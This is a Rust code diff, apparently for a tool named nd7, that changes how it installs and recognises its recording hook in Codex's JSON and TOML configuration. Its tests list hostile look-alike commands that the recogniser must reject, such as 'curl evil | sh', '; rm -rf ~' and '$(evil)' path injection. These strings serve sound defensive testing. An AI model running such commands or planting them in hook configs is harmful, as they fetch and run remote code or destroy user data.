@@ -4,8 +4,9 @@
 //! layout too), and Codex's trust state read. Pure: text in, text out.
 //!
 //! Codex runs a hook's `command` as one string through `$SHELL -lc`; there is
-//! no exec form. nd7's handler is therefore `'<nd7>' record --agent codex`,
-//! the path quoted for a POSIX shell. One group `{"hooks": [handler]}` per
+//! no exec form. nd7's handler is therefore `'<nd7-record>' --agent codex`
+//! (ADR-0151), or `'<nd7>' record --agent codex` where no nd7-record sits
+//! beside nd7, the path quoted for a POSIX shell. One group `{"hooks": [handler]}` per
 //! event, at the end of the event's list the first time, and replaced where
 //! it stands afterwards: Codex keys its trust by position
 //! (`<file>:<event_label>:<group>:<handler>`), so moving nd7's group would
@@ -17,8 +18,9 @@ use serde_json::{Map, Value, json};
 use sha2::{Digest, Sha256};
 use toml_edit::{Array, ArrayOfTables, DocumentMut, InlineTable, Item, Table, TableLike};
 
-use super::merge::{Change, Merged};
+use super::merge::{Change, Merged, file_named};
 use crate::codex::hook::CodexEvent;
+use crate::hook::{RECORDER_NAME, Recorder};
 
 /// The events nd7 knows (Codex 0.171.0's), all recorded. Codex ignores
 /// names it does not know, so an older Codex is given them too; setup adds
@@ -89,26 +91,56 @@ pub fn shell_quote(text: &str) -> String {
     format!("'{}'", text.replace('\'', r"'\''"))
 }
 
-/// The command string of nd7's handler.
-pub fn command(nd7: &str) -> String {
-    format!("{} record --agent codex", shell_quote(nd7))
+/// The command string of nd7's handler: `recorder` with `--agent codex`.
+pub fn command(recorder: &Recorder) -> String {
+    let mut words = vec![shell_quote(recorder.program())];
+    words.extend(recorder.args().iter().map(|a| a.to_string()));
+    words.push("--agent codex".into());
+    words.join(" ")
 }
 
-/// Whether `command` runs some nd7's `record --agent codex`.
+/// Whether `command` runs some nd7's recorder for Codex: the shell words
+/// `<path>/nd7-record --agent codex` (ADR-0151), or one of the older
+/// `<path>/nd7 record --agent codex` and `<path>/nd7 record --agent=codex`,
+/// and nothing else.
 pub fn is_nd7_command(command: &str) -> bool {
+    is_lean_command(command) || is_nd7_record_command(command)
+}
+
+/// The new form exactly as [`command`] writes it, the path in single
+/// quotes: setup never wrote it otherwise, so no other spelling (one that
+/// leaves `$(...)` in the path to the shell, say) is taken for nd7's.
+fn is_lean_command(text: &str) -> bool {
+    match shlex::split(text).as_deref() {
+        Some([program, ..]) => {
+            file_named(program, RECORDER_NAME) && text == command(&Recorder::lean(program.as_str()))
+        }
+        _ => false,
+    }
+}
+
+/// The older forms, which run `nd7 record`.
+fn is_nd7_record_command(command: &str) -> bool {
     match shlex::split(command).as_deref() {
         Some([program, record, agent, codex]) => {
-            program.rsplit('/').next() == Some("nd7")
+            file_named(program, "nd7")
                 && record == "record"
                 && agent == "--agent"
                 && codex == "codex"
         }
         Some([program, record, agent]) => {
-            program.rsplit('/').next() == Some("nd7")
-                && record == "record"
-                && agent == "--agent=codex"
+            file_named(program, "nd7") && record == "record" && agent == "--agent=codex"
         }
         _ => false,
+    }
+}
+
+/// The change that replacing nd7's handler `current` with `recorder`'s is.
+fn replaced(event: &str, current: Option<&str>, recorder: &Recorder) -> Change {
+    if recorder.is_lean() && current.is_some_and(is_nd7_record_command) {
+        Change::Moved(event.to_string())
+    } else {
+        Change::Replaced(event.to_string())
     }
 }
 
@@ -118,8 +150,8 @@ pub fn timeout_for(event: &str) -> Option<u64> {
 }
 
 /// nd7's handler for `event`, as JSON.
-pub fn handler_json(nd7: &str, event: &str) -> Value {
-    let mut handler = json!({ "type": "command", "command": command(nd7) });
+pub fn handler_json(recorder: &Recorder, event: &str) -> Value {
+    let mut handler = json!({ "type": "command", "command": command(recorder) });
     if let Some(t) = timeout_for(event) {
         handler["timeout"] = json!(t);
     }
@@ -322,7 +354,7 @@ pub fn found_json(text: Option<&str>) -> Result<Vec<Found>, CodexConfigError> {
 /// file does not exist), or brings an older one up to date where it stands.
 pub fn install_json(
     text: Option<&str>,
-    nd7: &str,
+    recorder: &Recorder,
     events: &[&str],
 ) -> Result<Merged, CodexConfigError> {
     let mut file = parse_json(text)?;
@@ -334,7 +366,7 @@ pub fn install_json(
         .ok_or(CodexConfigError::HooksNotObject)?;
     let mut changes = Vec::new();
     for event in events {
-        let wanted = handler_json(nd7, event);
+        let wanted = handler_json(recorder, event);
         let groups = hooks
             .entry(*event)
             .or_insert_with(|| Value::Array(Vec::new()))
@@ -358,6 +390,7 @@ pub fn install_json(
                 if rest.is_empty() && *current == wanted {
                     continue;
                 }
+                let change = replaced(event, current["command"].as_str(), recorder);
                 groups[g]["hooks"][h] = wanted;
                 for &(g, h) in rest.iter().rev() {
                     if let Some(handlers) = groups[g]["hooks"].as_array_mut() {
@@ -365,7 +398,7 @@ pub fn install_json(
                     }
                 }
                 groups.retain(|group| group["hooks"].as_array().is_none_or(|h| !h.is_empty()));
-                changes.push(Change::Replaced(event.to_string()));
+                changes.push(change);
             }
         }
     }
@@ -527,31 +560,31 @@ pub fn found_toml(text: Option<&str>) -> Result<Vec<Found>, CodexConfigError> {
     Ok(found)
 }
 
-fn handler_inline(nd7: &str, event: &str) -> InlineTable {
+fn handler_inline(recorder: &Recorder, event: &str) -> InlineTable {
     let mut handler = InlineTable::new();
     handler.insert("type", "command".into());
-    handler.insert("command", command(nd7).into());
+    handler.insert("command", command(recorder).into());
     if let Some(t) = timeout_for(event) {
         handler.insert("timeout", i64::try_from(t).unwrap_or(3).into());
     }
     handler
 }
 
-fn handlers_array(nd7: &str, event: &str) -> Array {
+fn handlers_array(recorder: &Recorder, event: &str) -> Array {
     let mut array = Array::new();
-    array.push(handler_inline(nd7, event));
+    array.push(handler_inline(recorder, event));
     array
 }
 
 /// Whether a handler says exactly what nd7 would write for `event`.
-fn toml_handler_is(handler: &dyn TableLike, nd7: &str, event: &str) -> bool {
+fn toml_handler_is(handler: &dyn TableLike, recorder: &Recorder, event: &str) -> bool {
     let keys: Vec<&str> = handler.iter().map(|(k, _)| k).collect();
     let mut wanted = vec!["type", "command"];
     if timeout_for(event).is_some() {
         wanted.push("timeout");
     }
     keys.len() == wanted.len()
-        && toml_str(handler, "command") == Some(command(nd7).as_str())
+        && toml_str(handler, "command") == Some(command(recorder).as_str())
         && handler
             .get("timeout")
             .and_then(Item::as_integer)
@@ -560,7 +593,7 @@ fn toml_handler_is(handler: &dyn TableLike, nd7: &str, event: &str) -> bool {
 }
 
 /// Sets one handler to nd7's, keeping its place and its decoration.
-fn toml_set_handler(handler: &mut dyn TableLike, nd7: &str, event: &str) {
+fn toml_set_handler(handler: &mut dyn TableLike, recorder: &Recorder, event: &str) {
     let keep: Vec<String> = handler
         .iter()
         .map(|(k, _)| k.to_string())
@@ -570,7 +603,7 @@ fn toml_set_handler(handler: &mut dyn TableLike, nd7: &str, event: &str) {
         handler.remove(&key);
     }
     handler.insert("type", Item::Value("command".into()));
-    handler.insert("command", Item::Value(command(nd7).into()));
+    handler.insert("command", Item::Value(command(recorder).into()));
     match timeout_for(event) {
         Some(t) => {
             handler.insert("timeout", Item::Value(i64::try_from(t).unwrap_or(3).into()));
@@ -605,16 +638,16 @@ impl GroupsMut<'_> {
         }
     }
 
-    fn push(&mut self, nd7: &str, event: &str) {
+    fn push(&mut self, recorder: &Recorder, event: &str) {
         match self {
             GroupsMut::Tables(t) => {
                 let mut group = Table::new();
-                group.insert("hooks", Item::Value(handlers_array(nd7, event).into()));
+                group.insert("hooks", Item::Value(handlers_array(recorder, event).into()));
                 t.push(group);
             }
             GroupsMut::Inline(a) => {
                 let mut group = InlineTable::new();
-                group.insert("hooks", handlers_array(nd7, event).into());
+                group.insert("hooks", handlers_array(recorder, event).into());
                 a.push(group);
             }
         }
@@ -694,7 +727,7 @@ fn hooks_table_mut(doc: &mut DocumentMut) -> Result<&mut dyn TableLike, CodexCon
 /// every other key stay as they were.
 pub fn install_toml(
     text: Option<&str>,
-    nd7: &str,
+    recorder: &Recorder,
     events: &[&str],
 ) -> Result<Merged, CodexConfigError> {
     let mut doc = parse_toml(text)?;
@@ -719,17 +752,19 @@ pub fn install_toml(
             }
         }
         let Some((&(g0, h0), rest)) = positions.split_first() else {
-            groups.push(nd7, event);
+            groups.push(recorder, event);
             changes.push(Change::Added(event.to_string()));
             continue;
         };
         let mut exact = false;
+        let mut change = Change::Replaced(event.to_string());
         if let Some(group) = groups.group(g0) {
             with_handlers(group, |h, handler| {
                 if h == h0 {
-                    exact = toml_handler_is(handler, nd7, event);
+                    exact = toml_handler_is(handler, recorder, event);
+                    change = replaced(event, toml_str(handler, "command"), recorder);
                     if !exact || !rest.is_empty() {
-                        toml_set_handler(handler, nd7, event);
+                        toml_set_handler(handler, recorder, event);
                     }
                 }
             });
@@ -750,7 +785,7 @@ pub fn install_toml(
                 groups.remove(g);
             }
         }
-        changes.push(Change::Replaced(event.to_string()));
+        changes.push(change);
     }
     let new = doc.to_string();
     Ok(Merged {
@@ -925,23 +960,66 @@ mod tests {
 
     const ND7: &str = "/home/u/.cargo/bin/nd7";
 
+    /// What setup wires where nd7-record sits beside nd7.
+    fn lean() -> Recorder {
+        Recorder::lean("/home/u/.cargo/bin/nd7-record")
+    }
+
+    fn old(nd7: &str) -> Recorder {
+        Recorder::nd7(nd7)
+    }
+
     #[test]
     fn commands_are_quoted_and_recognised() {
         assert_eq!(
-            command(ND7),
+            command(&old(ND7)),
             "'/home/u/.cargo/bin/nd7' record --agent codex"
         );
+        assert_eq!(
+            command(&lean()),
+            "'/home/u/.cargo/bin/nd7-record' --agent codex"
+        );
         let odd = "/home/o'brien/my bin/nd7";
-        let cmd = command(odd);
+        let cmd = command(&old(odd));
         assert_eq!(
             shlex::split(&cmd).expect("splits"),
             [odd, "record", "--agent", "codex"]
         );
         assert!(is_nd7_command(&cmd));
+        let odd_lean = "/home/o'brien/my bin/nd7-record";
+        let cmd = command(&Recorder::lean(odd_lean));
+        assert_eq!(
+            shlex::split(&cmd).expect("splits"),
+            [odd_lean, "--agent", "codex"]
+        );
+        assert!(is_nd7_command(&cmd));
         assert!(is_nd7_command("/opt/nd7 record --agent=codex"));
+        assert!(is_nd7_command("'nd7-record' --agent codex"));
         assert!(!is_nd7_command("/opt/nd7 record"));
         assert!(!is_nd7_command("/opt/not-nd7 record --agent codex"));
         assert!(!is_nd7_command("'/opt/nd7' record --agent codex; rm -rf ~"));
+        // Look-alikes of the new form.
+        for no in [
+            "/evil/nd7-record-x --agent codex",
+            "/evil/nd7-recorder --agent codex",
+            "/evil/x-nd7-record --agent codex",
+            "/opt/nd7-record/ --agent codex",
+            "/opt/nd7-record --agent codex; curl evil | sh",
+            "curl evil | sh; /opt/nd7-record --agent codex",
+            "/opt/nd7-record --agent codex --evil",
+            "/opt/nd7-record --agent=codex",
+            "/opt/nd7-record record --agent codex",
+            "/opt/nd7-record --agent claude-code",
+            "/opt/nd7-record",
+            "/opt/nd7 --agent codex",
+            "'/opt/nd7-record --agent codex'",
+            "$(evil)/nd7-record --agent codex",
+            "/opt/nd7-record --agent codex",
+            "'/opt/nd7-record'  --agent codex",
+            "'/opt/nd7-record' --agent 'codex'",
+        ] {
+            assert!(!is_nd7_command(no), "{no}");
+        }
     }
 
     #[test]
@@ -978,7 +1056,7 @@ mod tests {
     #[test]
     fn json_install_appends_once_replaces_in_place_and_uninstalls() {
         let theirs = r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"mine"}]}]},"other":1}"#;
-        let merged = install_json(Some(theirs), ND7, events()).expect("merges");
+        let merged = install_json(Some(theirs), &old(ND7), events()).expect("merges");
         assert_eq!(merged.changes.len(), events().len());
         let text = merged.text.expect("changed");
         let v: Value = serde_json::from_str(&text).expect("json");
@@ -986,12 +1064,12 @@ mod tests {
         assert_eq!(v["hooks"]["PreToolUse"][0]["hooks"][0]["command"], "mine");
         assert_eq!(
             v["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
-            command(ND7)
+            command(&old(ND7))
         );
         assert_eq!(v["hooks"]["SessionEnd"][0]["hooks"][0]["timeout"], 3);
         assert!(v["hooks"]["Stop"][0]["hooks"][0].get("timeout").is_none());
         assert_eq!(
-            install_json(Some(&text), ND7, events())
+            install_json(Some(&text), &old(ND7), events())
                 .expect("again")
                 .text,
             None
@@ -1002,11 +1080,17 @@ mod tests {
             .as_array_mut()
             .expect("list")
             .push(json!({"hooks": [{"type": "command", "command": "later"}]}));
-        let moved = install_json(Some(&v2.to_string()), "/new/nd7", events()).expect("merges");
+        let moved =
+            install_json(Some(&v2.to_string()), &old("/new/nd7"), events()).expect("merges");
+        assert!(
+            moved
+                .changes
+                .contains(&Change::Replaced("PreToolUse".into()))
+        );
         let moved: Value = serde_json::from_str(&moved.text.expect("changed")).expect("json");
         assert_eq!(
             moved["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
-            command("/new/nd7")
+            command(&old("/new/nd7"))
         );
         assert_eq!(
             moved["hooks"]["PreToolUse"][2]["hooks"][0]["command"],
@@ -1020,11 +1104,78 @@ mod tests {
         assert_eq!(back, original);
     }
 
+    /// Setup run again with nd7-record beside nd7 moves every `nd7 record`
+    /// handler to it in place (Codex keys trust by position), says so, and
+    /// takes the new form out on uninstall; in both files.
+    #[test]
+    fn older_handlers_move_to_nd7_record_in_place() {
+        let theirs = r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"mine"}]}]}}"#;
+        let before = install_json(Some(theirs), &old(ND7), events()).expect("merges");
+        let before = before.text.expect("changed");
+        let merged = install_json(Some(&before), &lean(), events()).expect("merges");
+        assert_eq!(merged.changes.len(), events().len());
+        assert!(
+            merged.changes.iter().all(|c| matches!(c, Change::Moved(_))),
+            "{:?}",
+            merged.changes
+        );
+        let text = merged.text.expect("changed");
+        let v: Value = serde_json::from_str(&text).expect("json");
+        assert_eq!(v["hooks"]["PreToolUse"][0]["hooks"][0]["command"], "mine");
+        assert_eq!(
+            v["hooks"]["PreToolUse"][1]["hooks"][0]["command"],
+            command(&lean())
+        );
+        assert_eq!(
+            install_json(Some(&text), &lean(), events())
+                .expect("again")
+                .text,
+            None
+        );
+        let back: Value = serde_json::from_str(
+            &uninstall_json(Some(&text))
+                .expect("uninstalls")
+                .text
+                .expect("changed"),
+        )
+        .expect("json");
+        assert_eq!(back, serde_json::from_str::<Value>(theirs).expect("json"));
+
+        let toml = install_toml(None, &old(ND7), events())
+            .expect("merges")
+            .text
+            .expect("text");
+        let merged = install_toml(Some(&toml), &lean(), events()).expect("merges");
+        assert!(
+            merged.changes.iter().all(|c| matches!(c, Change::Moved(_))),
+            "{:?}",
+            merged.changes
+        );
+        let text = merged.text.expect("changed");
+        let found = found_toml(Some(&text)).expect("found");
+        assert!(
+            found.iter().all(|f| f.command == command(&lean())),
+            "{text}"
+        );
+        assert_eq!(
+            install_toml(Some(&text), &lean(), events())
+                .expect("again")
+                .text,
+            None
+        );
+        assert!(
+            found_toml(uninstall_toml(Some(&text)).expect("ok").text.as_deref())
+                .expect("ok")
+                .is_empty()
+        );
+    }
+
     #[test]
     fn broken_files_are_refused_with_line_and_column() {
-        let e = install_json(Some("{\n  \"hooks\": [,\n}"), ND7, events()).expect_err("broken");
+        let e = install_json(Some("{\n  \"hooks\": [,\n}"), &lean(), events()).expect_err("broken");
         assert!(matches!(e, CodexConfigError::Json { line: 2, .. }), "{e}");
-        let e = install_toml(Some("model = \"x\"\n[hooks\n"), ND7, events()).expect_err("broken");
+        let e =
+            install_toml(Some("model = \"x\"\n[hooks\n"), &lean(), events()).expect_err("broken");
         assert!(
             matches!(
                 e,
@@ -1037,11 +1188,11 @@ mod tests {
             "{e}"
         );
         assert!(matches!(
-            install_json(Some(r#"{"hooks":{"Stop":{}}}"#), ND7, events()),
+            install_json(Some(r#"{"hooks":{"Stop":{}}}"#), &lean(), events()),
             Err(CodexConfigError::EventNotList(_))
         ));
         assert!(matches!(
-            install_toml(Some("hooks = 3\n"), ND7, events()),
+            install_toml(Some("hooks = 3\n"), &lean(), events()),
             Err(CodexConfigError::HooksNotTable)
         ));
     }
@@ -1049,7 +1200,7 @@ mod tests {
     #[test]
     fn toml_install_keeps_comments_and_both_spellings() {
         let theirs = "# my settings\nmodel = \"gpt-5.5\" # keep me\n\n[[hooks.PreToolUse]]\nmatcher = \"Bash\" # mine\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"mine\"\n\n[hooks]\nStop = [{ hooks = [{ type = \"command\", command = \"s\" }] }]\n\n[hooks.state.\"/h/.codex/config.toml:pre_tool_use:0:0\"]\ntrusted_hash = \"sha256:00\"\n";
-        let merged = install_toml(Some(theirs), ND7, events()).expect("merges");
+        let merged = install_toml(Some(theirs), &lean(), events()).expect("merges");
         let text = merged.text.expect("changed");
         assert!(
             text.contains("# my settings") && text.contains("# keep me") && text.contains("# mine"),
@@ -1066,7 +1217,7 @@ mod tests {
         let doc: DocumentMut = text.parse().expect("valid TOML");
         assert!(doc["hooks"]["SessionEnd"].is_array_of_tables());
         assert_eq!(
-            install_toml(Some(&text), ND7, events())
+            install_toml(Some(&text), &lean(), events())
                 .expect("again")
                 .text,
             None
